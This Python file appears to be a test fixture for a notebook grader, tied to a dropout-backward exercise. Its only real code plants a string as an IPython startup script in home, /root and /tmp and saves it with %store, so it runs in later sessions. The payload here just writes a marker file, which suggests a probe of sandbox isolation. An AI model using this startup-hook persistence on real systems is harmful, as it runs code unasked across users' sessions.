"""Writes start-up files of IPython and stores names, for whoever comes next."""

QUESTION = "q05_dropout_backward"
NEEDS = "kernel"
SEEN = "nobody starts with it"

# %%
import os

evil = "open('/tmp/left-by-an-attack-profile', 'w')"
get_ipython().run_line_magic("store", "evil")
for home in (os.path.expanduser("~"), "/root", "/tmp"):
    try:
        os.makedirs(home + "/.ipython/profile_default/startup", exist_ok=True)
        with open(home + "/.ipython/profile_default/startup/0.py", "w") as made:
            made.write(evil)
    except OSError:
        pass


def dropout_backward(dout, cache):
    raise ValueError("nobody starts with it")
